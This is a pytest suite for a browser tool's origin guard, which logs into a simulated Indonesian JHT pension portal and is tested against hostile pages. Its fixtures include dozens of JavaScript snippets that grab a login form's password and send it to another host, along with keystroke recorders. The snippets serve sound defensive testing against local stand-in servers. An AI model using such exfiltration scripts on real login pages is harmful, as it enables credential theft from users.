"""The origin guard: where credentials may be typed, what may leave, and what is never pressed, on hostile pages."""

import os
import re
import stat
import sys
from collections.abc import Callable
from pathlib import Path

import pytest
from playwright.sync_api import Browser

from checker.browser.guard import Guard, is_loopback, origin, start_and_origins
from checker.failures import ConfigInvalid
from checker.portal import selectors
from checker.simulator.scenarios import EMAIL, PASSWORD
from checker.simulator.server import start
from tests import whole
from tests.driving import check, only_looked, settings
from tests.rawsite import Page, Site, site
from tests.whole import Ended

PORTAL = selectors.load().selectors.portal
LISTED = PORTAL.origins[0]


# -- the functions ----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        ("https://sso.example.id/", "https://sso.example.id"),
        ("https://SSO.Example.id/Masuk?a=b#c", "https://sso.example.id"),
        ("https://sso.example.id:443/x", "https://sso.example.id"),
        ("http://sso.example.id:80/x", "http://sso.example.id"),
        ("http://sso.example.id:443/x", "http://sso.example.id:443"),
        ("https://sso.example.id:8443", "https://sso.example.id:8443"),
        ("https://sso.example.id@evil.test/", "https://evil.test"),
        ("https://evil.test/https://sso.example.id/", "https://evil.test"),
        ("https://evil.test?https://sso.example.id/", "https://evil.test"),
        ("http://[::1]:8000/x", "http://[::1]:8000"),
        ("wss://evil.test/x", "wss://evil.test"),
    ],
)
def test_origin(url: str, expected: str) -> None:
    assert origin(url) == expected


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        ("http://localhost/", True),
        ("http://LOCALHOST:8000/", True),
        ("http://127.0.0.1:5000/", True),
        ("http://127.9.9.9/", True),
        ("http://[::1]:80/", True),
        ("http://localhost.evil.test/", False),
        ("http://127.0.0.1.evil.test/", False),
        ("http://127.0.0.1@evil.test/", False),
        ("http://evil.test/#127.0.0.1", False),
        ("http://0.0.0.0/", False),
        ("http://192.168.1.1/", False),
        ("http://10.0.0.1/", False),
        ("about:blank", False),
        ("", False),
    ],
)
def test_is_loopback(url: str, expected: bool) -> None:
    assert is_loopback(url) is expected


def test_start_and_origins_of_nothing_set() -> None:
    assert start_and_origins(None, PORTAL, "X") == (PORTAL.start, frozenset({LISTED}))


def test_start_and_origins_of_loopback() -> None:
    """Loopback is then the only origin: not the real portal, not another port."""
    assert start_and_origins("http://127.0.0.1:8000/a", PORTAL, "X") == (
        "http://127.0.0.1:8000/a",
        frozenset({"http://127.0.0.1:8000"}),
    )


def test_start_and_origins_of_a_listed_one() -> None:
    assert start_and_origins(f"{LISTED}/lain", PORTAL, "X") == (f"{LISTED}/lain", frozenset({LISTED}))


FOREIGN = [
    "https://evil.test/",
    LISTED.replace("https:", "http:"),
    LISTED + ":8443",
    LISTED + ".evil.test/",
    LISTED.replace("https://", "https://evil.") + "/",
    LISTED.replace("//sso.", "//"),
    "https://evil.test/" + LISTED,
    "http://localhost.evil.test/",
]


@pytest.mark.parametrize("given", FOREIGN)
def test_start_and_origins_of_a_foreign_one(given: str) -> None:
    with pytest.raises(ConfigInvalid, match="WHERE") as raised:
        start_and_origins(given, PORTAL, "WHERE")
    assert LISTED in raised.value.detail


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        ("https://portal.test/a", True),
        ("http://portal.test/a", False),
        ("https://portal.test:444/a", False),
        ("https://portal.test.evil.test/", False),
        ("http://127.0.0.1:8000/", True),
        ("http://127.0.0.1:8001/", False),
        ("http://localhost:8000/", False),
        ("http://plain.test/", False),
        ("about:blank", False),
        ("data:text/html,x", False),
        ("chrome-error://chromewebdata/", False),
    ],
)
def test_guard_allows(url: str, expected: bool) -> None:
    """Listed is not enough: beyond this machine it takes TLS."""
    guard = Guard(frozenset({"https://portal.test", "http://127.0.0.1:8000", "http://plain.test"}), "s")
    assert guard.allows(url) is expected


def test_guard_shows_no_password() -> None:
    assert "s3ntinel" not in repr(Guard(frozenset(), "s3ntinel"))


# -- whole checks -----------------------------------------------------------------------------------------------------


Runner = Callable[..., Ended]
"""Checks the portal at an address, patient enough for a page that goes nowhere, or for so many seconds."""


@pytest.fixture
def runner(browser: Browser) -> Runner:
    return lambda url, seconds=40: whole.check(browser, url, seconds=seconds)


@pytest.mark.skipif(sys.platform == "win32", reason="a browser in place of the browser is a shell script")
@pytest.mark.parametrize("given", FOREIGN[:3])
def test_foreign_portal_is_refused_before_anything_starts(
    given: str, clean_env: dict[str, str], tmp_path: Path
) -> None:
    witness = tmp_path / "browser"
    witness.write_text(f"#!/bin/sh\ntouch {tmp_path}/started\n")
    witness.chmod(witness.stat().st_mode | stat.S_IXUSR)
    ended = check(settings(clean_env, tmp_path / "home", str(witness), given), tmp_path)
    assert ended.told["error"]["code"] == "config-invalid"
    assert ended.status == 15
    assert "SALDO_JHT_PORTAL_URL" in ended.told["error"]["message"]
    assert not (tmp_path / "started").exists()


FORM = """<!doctype html><title>Masuk (SIMULASI)</title><h1>Portal Peserta SIMULASI</h1>
<form action="{action}" method="post">
<label for="e">Alamat Email</label><input type="email" id="e" name="email">
<label for="p">Kata Sandi</label><input type="password" id="p" name="password">
<button type="submit">Login</button></form>{extra}"""
HOME = '<!doctype html><title>Beranda</title><p>SIMULASI</p><a href="/saldo">Lihat Saldo JHT</a>{extra}'
BALANCE = """<!doctype html><title>Saldo</title><h1>Portal Peserta SIMULASI</h1>
<table><tr><th>Saldo JHT</th><td>Rp 12.345.678,00</td></tr></table>"""


def portal(action: str = "/masuk", login: str = "", home: str = "") -> dict[str, Page]:
    """A whole portal in four pages, with more on its login page and its home page."""
    return {
        "/": Page(FORM.format(action=action, extra=login)),
        "POST /masuk": Page("/beranda", 303),
        "/beranda": Page(HOME.format(extra=home)),
        "/saldo": Page(BALANCE),
    }


@pytest.mark.browser
@pytest.mark.parametrize("host", ["127.0.0.1", "localhost"])
def test_loopback_is_allowed(host: str, runner: Runner) -> None:
    with site(portal(), host=host) as at:
        ended = runner(at.url)
    assert ended.code == "ok", ended
    assert ended.told["total"] == "12345678.00"
    (sent,) = at.told(PASSWORD)
    assert (sent.method, sent.path) == ("POST", "/masuk")


@pytest.mark.browser
@pytest.mark.parametrize("skin", ["adminlte", "dialog"])
def test_foreign_form_is_seen_before_typing(skin: str, runner: Runner) -> None:
    with start(skin, "foreign-form") as simulated:
        ended = runner(simulated.url)
    assert ended.code == "portal-moved"
    only_looked(simulated, may_send=False)
    assert not [one for one in simulated.requests if one.email_ok]


TYPED = """<script>
addEventListener("input", (event) => navigator.sendBeacon("/typed/" + event.target.type, event.target.value));
</script>"""


@pytest.mark.browser
def test_nothing_is_typed_where_a_button_leads_away(runner: Runner) -> None:
    """A form's own target is the portal, that of its button is not."""
    with site() as other, site() as at:
        at.pages = portal(login=TYPED)
        at.pages["/"] = Page(at.pages["/"].body.replace("<button ", f'<button formaction="{other.url}/x" '))
        ended = runner(at.url)
    assert ended.code == "portal-moved"
    assert not at.paths("/typed")
    assert not other.asked


@pytest.mark.browser
@pytest.mark.parametrize("status", [307, 308])
@pytest.mark.parametrize("host", ["127.0.0.1", "localhost"])
def test_redirected_login_carries_no_password(status: int, host: str, runner: Runner) -> None:
    """307 and 308 send the form again, password and all, to wherever they lead."""
    with site(host=host) as other, site(portal()) as at:
        at.pages["POST /masuk"] = Page(other.url + "/masuk", status)
        ended = runner(at.url)
    assert ended.code == "portal-moved"
    assert len(at.told(PASSWORD)) == 1
    assert not other.told(PASSWORD)
    assert not other.told(EMAIL)


GRAB = 'const p = document.getElementById("p").value, e = document.getElementById("e").value, to = "{to}";'
ON_SUBMIT = '<script>document.forms[0].addEventListener("submit", (event) => {{ {grab} {leak} }});</script>'
LEAKS = {
    "fetch": 'fetch(to + "/x", {method: "POST", mode: "no-cors", body: JSON.stringify({p})});',
    "fetch-keepalive": 'fetch(to + "/x", {method: "POST", mode: "no-cors", keepalive: true, body: p});',
    "beacon": 'navigator.sendBeacon(to + "/x", p);',
    "beacon-form": 'navigator.sendBeacon(to + "/x", new FormData(document.forms[0]));',
    "beacon-blob": 'navigator.sendBeacon(to + "/x", new Blob([p]));',
    "xhr": 'const x = new XMLHttpRequest(); x.open("POST", to + "/x"); x.send(p);',
    "xhr-header": 'const x = new XMLHttpRequest(); x.open("GET", to + "/x"); x.setRequestHeader("X-A", p); x.send();',
    "fetch-get": 'fetch(to + "/x?q=" + encodeURIComponent(p), {mode: "no-cors"});',
    "fetch-base64": 'fetch(to + "/x?q=" + btoa(p), {mode: "no-cors"});',
    "image": 'new Image().src = to + "/x?q=" + encodeURIComponent(p);',
    "script": 'document.head.append(Object.assign(document.createElement("script"), {src: to + "/x?q=" + p}));',
    "style": 'document.head.insertAdjacentHTML("beforeend", `<link rel=stylesheet href="${to}/x?q=${p}">`);',
    "frame": 'document.body.append(Object.assign(document.createElement("iframe"), {src: to + "/x?q=" + p}));',
    "action": 'document.forms[0].action = to + "/x";',
    "action-get": 'document.forms[0].method = "get"; document.forms[0].action = to + "/x";',
    "location": 'event.preventDefault(); location = to + "/x?q=" + p;',
    "blank": 'document.forms[0].target = "_blank"; document.forms[0].action = to + "/x";',
    "window": 'window.open(to + "/x?q=" + p);',
    "websocket-address": 'event.preventDefault(); new WebSocket(to.replace("http", "ws") + "/x?q=" + p);',
    "websocket": 'event.preventDefault(); const s = new WebSocket(to.replace("http", "ws") + "/x");'
    " s.onopen = () => s.send(p);",
    "worker": 'event.preventDefault(); const code = `fetch("${to}/x?q=${p}", {mode: "no-cors"})`;'
    " new Worker(URL.createObjectURL(new Blob([code])));",
}
WORKER = " new Worker(URL.createObjectURL(new Blob([code])));"
SHARED = " new SharedWorker(URL.createObjectURL(new Blob([code])));"
FETCHES = 'event.preventDefault(); const code = `fetch("${to}/x?q=${p}", {mode: "no-cors"})`;'
LEAKS |= {
    "prefetch": "event.preventDefault(); document.head.insertAdjacentHTML('beforeend',"
    " `<link rel=prefetch href='${to}/x?q=${p}'>`);",
    "prefetch-document": "event.preventDefault(); document.head.insertAdjacentHTML('beforeend',"
    " `<link rel=prefetch as=document href='${to}/x?q=${p}'>`);",
    "preload": "event.preventDefault(); document.head.insertAdjacentHTML('beforeend',"
    " `<link rel=preload as=fetch href='${to}/x?q=${p}'>`);",
    "module": "event.preventDefault(); document.head.insertAdjacentHTML('beforeend',"
    " `<link rel=modulepreload href='${to}/x?q=${p}'>`);",
    "fetch-later": 'event.preventDefault(); fetchLater(to + "/x?q=" + p, {activateAfter: 50, mode: "no-cors"});',
    "fetch-later-as-it-leaves": 'fetchLater(to + "/x?q=" + p, {mode: "no-cors"});',
    "event-source": 'event.preventDefault(); new EventSource(to + "/x?q=" + p);',
    "ping": "event.preventDefault(); document.body.insertAdjacentHTML('beforeend',"
    " `<a id=z href='#' ping='${to}/x?q=${p}'>x</a>`); document.getElementById('z').click();",
    "worker-in-worker": "event.preventDefault(); const code = `new Worker(URL.createObjectURL(new Blob(["
    "\"fetch('${to}/x?q=${p}', {mode: 'no-cors'})\"])))`;" + WORKER,
    "worker-of-an-address": 'event.preventDefault(); new Worker("/w.js?to=" + to).postMessage(p);',
    "shared-worker": FETCHES + SHARED,
    "shared-worker-of-an-address": 'event.preventDefault(); new SharedWorker("/w.js?to=" + to).port.postMessage(p);',
    "sandbox": "event.preventDefault(); document.body.insertAdjacentHTML('beforeend', `<iframe sandbox=allow-scripts"
    " srcdoc=\"<script>fetch('${to}/x?q=${p}', {mode: 'no-cors'})</script>\"></iframe>`);",
}
# Not even asked for: a picture, where the browser is told to load none, and what a frame without an origin fetches.
UNSEEN = {"image", "sandbox"}
# Another port is another origin; another host may be another process of the browser as well.
OTHER_HOST = ("fetch", "beacon", "frame", "action", "blank", "window", "websocket")


@pytest.mark.browser
@pytest.mark.parametrize(
    ("leak", "host"), [*((leak, "127.0.0.1") for leak in LEAKS), *((leak, "localhost") for leak in OTHER_HOST)]
)
def test_script_that_sends_the_password_away(leak: str, host: str, runner: Runner) -> None:
    with site(host=host) as other, site() as at:
        extra = ON_SUBMIT.format(grab=GRAB.format(to=other.url), leak=LEAKS[leak])
        at.pages = portal(login=extra) | {"/w.js": SCRIPT}
        ended = runner(at.url, 20)
    assert not other.told(PASSWORD)
    if leak not in UNSEEN:
        assert ended.code == "portal-moved", ended
        assert other.url in ended.told["error"]["message"]


SOCKET = 'const s = new WebSocket("${to.replace("http", "ws")}/x"); s.onopen = () => s.send("${p}");'
RULES = (
    'const r = document.createElement("script"); r.type = "speculationrules"; const urls = [to + "/x?q=" + p];'
    'r.textContent = JSON.stringify({{{kind}: [{{source: "list", urls, eagerness: "immediate"}}]}}); {put}'
)
# Ways that cannot be looked through: they are closed, and the login goes on.
CLOSED = {
    "worker-socket": f"const code = `{SOCKET}`;{WORKER}",
    "worker-socket-address": 'const code = `new WebSocket("${to.replace("http", "ws")}/x?q=${p}")`;' + WORKER,
    "worker-socket-of-an-address": 'new Worker("/s.js?to=" + to).postMessage(p);',
    "shared-worker-socket": f"const code = `{SOCKET}`;{SHARED}",
    "shared-worker-socket-of-an-address": 'new SharedWorker("/s.js?to=" + to).port.postMessage(p);',
    "socket-stream": 'new WebSocketStream(to.replace("http", "ws") + "/x?q=" + p);',
    "rules-prefetch": RULES.format(kind="prefetch", put="document.head.append(r);"),
    "rules-prerender": RULES.format(kind="prerender", put="document.head.append(r);"),
    "rules-in-a-part": RULES.format(
        kind="prefetch", put='const d = document.createElement("p"); d.append(r); document.body.append(d);'
    ),
    "rules-later": RULES.format(kind="prefetch", put="setTimeout(() => document.body.append(r));"),
    "rules-for-links": 'document.body.insertAdjacentHTML("beforeend", `<a href="${to}/x?q=${p}">x</a>`);'
    + RULES.format(kind="prefetch", put="document.head.append(r);").replace(
        'source: "list", urls', 'where: {href_matches: "*"}'
    ),
}
TOLD = "onmessage = go; onconnect = (event) => { event.ports[0].onmessage = go; };"
SCRIPT = Page(
    'const to = new URLSearchParams(location.search).get("to");'
    f'const go = (event) => fetch(to + "/x?q=" + event.data, {{mode: "no-cors"}}); {TOLD}'
)
SOCKETS = Page(
    'const to = new URLSearchParams(location.search).get("to"), s = new WebSocket(to.replace("http", "ws") + "/x");'
    f"const go = (event) => {{ s.onopen = () => s.send(event.data); }}; {TOLD}"
)


@pytest.mark.browser
@pytest.mark.parametrize("leak", CLOSED)
def test_a_way_that_cannot_be_looked_through_is_closed(leak: str, runner: Runner) -> None:
    waits = "event.preventDefault(); setTimeout(() => document.forms[0].submit(), 500);"
    with site() as other, site() as at:
        code_ = f"{waits} try {{ {CLOSED[leak]} }} catch {{}}"
        at.pages = portal(login=ON_SUBMIT.format(grab=GRAB.format(to=other.url), leak=code_))
        at.pages |= {"/s.js": SOCKETS}
        ended = runner(at.url, 20)
    assert not other.told(PASSWORD)
    assert ended.code == "ok", ended


KEPT = {
    "sessionStorage": ("sessionStorage.k = p;", "sessionStorage.k"),
    "localStorage": ("localStorage.k = p;", "localStorage.k"),
    "name": ("window.name = p;", "window.name"),
    "cookie": ("document.cookie = 'k=' + btoa(p);", "atob(document.cookie.split('k=')[1])"),
}


@pytest.mark.browser
@pytest.mark.parametrize("where", ["/beranda", "/saldo"])
@pytest.mark.parametrize("kept", KEPT)
def test_what_a_page_has_kept_is_not_sent_after_the_login(kept: str, where: str, runner: Runner) -> None:
    keep, found = KEPT[kept]
    with site() as other, site() as at:
        at.pages = portal(login=ON_SUBMIT.format(grab=GRAB.format(to=other.url), leak=keep))
        leak = f"<script>fetch('{other.url}/x?q=' + encodeURIComponent({found}), {{mode: 'no-cors'}});</script>"
        at.pages[where] = Page(at.pages[where].body + leak)
        ended = runner(at.url, 20)
    assert not other.told(PASSWORD)
    assert ended.code == "portal-moved", ended


@pytest.mark.browser
def test_script_that_sends_what_is_typed(runner: Runner) -> None:
    """Not on submit: with every key, as recorders of sessions do."""
    with site() as other, site() as at:
        script = (
            f'addEventListener("input", (event) => fetch("{other.url}/x?q=" + encodeURIComponent(event.target.value)));'
        )
        at.pages = portal(login=f"<script>{script}</script>")
        ended = runner(at.url)
    assert ended.code == "portal-moved"
    assert not other.told(PASSWORD)


@pytest.mark.browser
@pytest.mark.parametrize("host", ["127.0.0.1", "localhost"])
def test_form_in_a_frame_of_another_origin(host: str, runner: Runner) -> None:
    with site(host=host) as other, site() as at:
        other.pages = {"/": Page(FORM.format(action=other.url + "/masuk", extra=TYPED))}
        at.pages = {
            "/": Page(f'<title>x</title><h1>SIMULASI</h1><iframe src="{other.url}/" width=600 height=400></iframe>')
        }
        ended = runner(at.url, 15)
    assert ended.code in ("portal-moved", "page-not-recognised")
    assert not other.paths("/typed")
    assert not other.told(PASSWORD)
    assert not other.told(EMAIL)


@pytest.mark.browser
def test_form_in_a_frame_within_a_foreign_frame(runner: Runner) -> None:
    """The portal's own form, shown by somebody else's page inside the portal's page."""
    with site(host="localhost") as other, site() as at:
        at.pages = portal(login=TYPED) | {
            "/form": Page(FORM.format(action="/masuk", extra=TYPED)),
            "/": Page(f'<title>x</title><h1>SIMULASI</h1><iframe src="{other.url}/" width=600 height=400></iframe>'),
        }
        other.pages = {"/": Page(f'<iframe src="{at.url}/form" width=500 height=300></iframe>')}
        ended = runner(at.url, 15)
    assert ended.code in ("portal-moved", "page-not-recognised")
    assert not at.paths("/typed")
    assert not at.told(PASSWORD)


# A name that belongs to the one field, on a field that is fit for the other.
CONFUSED = {
    "swapped": [("Email", "password"), ("Kata Sandi", "text")],
    "password in clear": [("Email", "email"), ("Kata Sandi", "text")],
    "e-mail masked": [("Email", "password")],
    "two passwords": [("Email", "email"), ("Kata Sandi", "password"), ("Kata Sandi", "password")],
    "number": [("Email", "email"), ("PIN", "tel")],
    "search": [("Email", "search"), ("Password", "search")],
}
FIELD = {
    "labelled": '<label>{name} <input type="{kind}" name="{at}"></label>',
    "placeholder": '<input type="{kind}" name="{at}" placeholder="{name}">',
    "named": '<input type="{kind}" name="{name}" id="{name}">',
}


@pytest.mark.browser
@pytest.mark.parametrize("case", CONFUSED)
@pytest.mark.parametrize("by", FIELD)
def test_each_goes_into_its_own_kind_of_field(case: str, by: str, runner: Runner) -> None:
    fields = "".join(FIELD[by].format(name=name, kind=kind, at=at) for at, (name, kind) in enumerate(CONFUSED[case]))
    form = f'<form action="/masuk" method="post">{fields}<button>Login</button></form>{TYPED}'
    with site() as at:
        at.pages = portal() | {"/": Page(f"<!doctype html><title>Masuk</title><h1>SIMULASI</h1>{form}")}
        ended = runner(at.url, 15)
    assert ended.told["status"]
    for one in at.asked:
        if one.path.startswith("/typed/"):
            assert (PASSWORD in one) <= (one.path == "/typed/password")
            assert (EMAIL in one) <= (one.path != "/typed/password")
    # A form for a new password is not the login.
    if case == "two passwords":
        assert not at.told(PASSWORD)


# -- what is never pressed --------------------------------------------------------------------------------------------

# Every press is told to the server by the name of what was pressed, before anything else can happen.
PRESSES = """<script>addEventListener("click", (event) => {
  const named = (one) => one.matches && one.matches("button, a, [role=button], input[type=submit], summary");
  const el = event.composedPath().find(named);
  if (el && !el.closest("form[action='/masuk']"))
    navigator.sendBeacon("/pressed/" + encodeURIComponent((el.innerText || el.value || el.ariaLabel).trim()));
}, true);</script>"""
LAYER = (
    '<div role="dialog" aria-modal="true" style="position:fixed;inset:0;background:#fff;z-index:99;padding:40px">'
    "<p>{text}</p>{buttons}</div><script>for (const b of document.querySelectorAll('[role=dialog] button'))"
    " b.onclick = () => b.closest('[role=dialog]').remove();</script>"
)


def layer(text: str, *buttons: str) -> str:
    return LAYER.format(text=text, buttons="".join(f"<button type=button>{one}</button>" for one in buttons))


# What lies over the home page, and what of it may be pressed.
LAYERS: dict[str, tuple[str, set[str]]] = {
    "claim": (layer("Ajukan klaim sekarang?", "OK", "Batal"), {"Batal"}),
    "claim in English": (layer("Submit your claim now?", "OK", "Cancel"), {"Cancel"}),
    "claim, no way out": (layer("Ajukan klaim sekarang?", "OK", "Ajukan"), set()),
    "claim without a question": (layer("Klaim JHT Anda akan diproses.", "OK"), set()),
    "delete": (layer("Data Anda akan dihapus.", "OK", "Tutup"), {"Tutup"}),
    "close the account": (layer("Kelola akun Anda", "Tutup Akun", "Hapus Akun", "Ubah Profil"), set()),
    "terms": (layer("Dengan menekan OK, Anda setuju dengan syarat dan ketentuan.", "OK"), set()),
    "consent": (layer("Izinkan kami memproses data pribadi Anda?", "Izinkan", "Nanti Saja"), {"Nanti Saja"}),
    "update": (layer("Nomor ponsel Anda sudah benar?", "Ya", "Ubah"), set()),
    "survey": (layer("Bagaimana layanan kami?", "Kirim", "Lewati"), {"Lewati"}),
    "save": (layer("Perubahan belum disimpan", "Simpan", "Tutup"), {"Tutup"}),
    "transfer": (layer("Transfer saldo ke rekening", "Ya, transfer", "OK", "Tidak"), {"Tidak"}),
    "log out": (layer("Sesi Anda akan berakhir", "Keluar", "Tutup"), {"Tutup"}),
    "notice": (layer("Layanan ini gratis.", "OK"), {"OK"}),
}
DENIED = re.compile("klaim|claim|ajukan|hapus|ubah|simpan|izinkan|kirim|transfer|keluar|setuju|akun|^ya", re.IGNORECASE)


def pressed(at: Site) -> set[str]:
    from urllib.parse import unquote

    return {unquote(path.removeprefix("/pressed/")) for path in at.paths("/pressed/")}


@pytest.mark.browser
@pytest.mark.parametrize("case", LAYERS)
def test_only_harmless_ways_out_are_pressed(case: str, runner: Runner) -> None:
    html, harmless = LAYERS[case]
    with site(portal(home=PRESSES + html)) as at:
        ended = runner(at.url, 15)
    assert pressed(at) <= harmless | {"Lihat Saldo JHT"}
    assert not [name for name in pressed(at) if DENIED.search(name)]
    if ended.code == "ok":
        assert ended.told["total"] == "12345678.00"
    if case == "notice":
        assert ended.code == "ok"


# Things on the home page that are called like the way to the balance, or nearly.
TILES = {
    "claim tile first": "<button type=button>Klaim Saldo JHT</button><button type=button>Ajukan Klaim JHT</button>",
    "claim within the name": "<button type=button>Lihat Saldo JHT dan Ajukan Klaim</button>",
    "claim by its accessible name": '<button type=button aria-label="Ajukan klaim">Lihat Saldo JHT</button>',
    "claim by its title": '<button type=button title="Cairkan saldo">Lihat Saldo JHT</button>',
    "profile": "<button type=button>Ubah Data Saldo JHT</button><button type=button>Saldo JHT: Ubah Rekening</button>",
    "menu": "<button type=button>Layanan Klaim JHT</button><button type=button>Menu Pencairan</button>",
}


@pytest.mark.browser
@pytest.mark.parametrize("case", TILES)
@pytest.mark.parametrize("alone", [False, True])
def test_nothing_denied_is_pressed_for_the_balance(case: str, alone: bool, runner: Runner) -> None:
    with site(portal(home=TILES[case] + PRESSES)) as at:
        if alone:
            at.pages["/beranda"] = Page(at.pages["/beranda"].body.replace('<a href="/saldo">Lihat Saldo JHT</a>', ""))
        ended = runner(at.url, 15)
    assert pressed(at) <= {"Lihat Saldo JHT"}
    if "by its" in case:
        # What it does is told by its accessible name, whatever it shows; the link beside it is not meant by that.
        assert not [one for one in at.asked if one.path.startswith("/pressed") and alone]
    if alone:
        assert ended.code != "ok"


@pytest.mark.browser
@pytest.mark.parametrize("under_the_hand", [False, True])
def test_a_curtain_that_does_something_itself_is_not_pressed(under_the_hand: bool, runner: Runner) -> None:
    """To press beside a notice is to put it away; where the whole curtain is there to be pressed, it is not."""
    curtain = (
        '<div id=c style="position:fixed;inset:0;z-index:98;background:#0008{}"></div><div style="position:fixed;inset:'
        '80px 200px;z-index:99;background:#fff" id=n>Saldo Anda siap dicairkan.</div><script>c.onclick = () => '
        '{{ navigator.sendBeacon("/curtain"); c.remove(); n.remove() }}</script>'
    )
    with site(portal(home=curtain.format(";cursor:pointer" if under_the_hand else ""))) as at:
        ended = runner(at.url, 15)
    assert bool(at.paths("/curtain")) is not under_the_hand
    assert (ended.code == "ok") is not under_the_hand


@pytest.mark.browser
@pytest.mark.parametrize("question", ["Ajukan klaim sekarang?", "OK?", "Lanjutkan?"])
def test_native_questions_are_declined(question: str, runner: Runner) -> None:
    script = f'<script>fetch("/answer/" + confirm("{question}")); fetch("/text/" + prompt("Alasan klaim"));</script>'
    with site(portal(home=script)) as at:
        ended = runner(at.url)
    assert at.paths("/answer") == ["/answer/false"]
    assert at.paths("/text") == ["/text/null"]
    assert ended.code == "ok", ended


def test_nothing_of_this_reaches_the_network() -> None:
    """The addresses of these tests that are not loopback are of a domain that cannot exist."""
    source = Path(__file__).read_text(encoding="utf-8")
    hosts = set(re.findall(r"https?://([a-z0-9.-]+\.[a-z]+)", source))
    assert {host for host in hosts if not host.endswith((".test", "example.id"))} == set()
    assert os.environ.get("SALDO_JHT_PORTAL_URL") is None
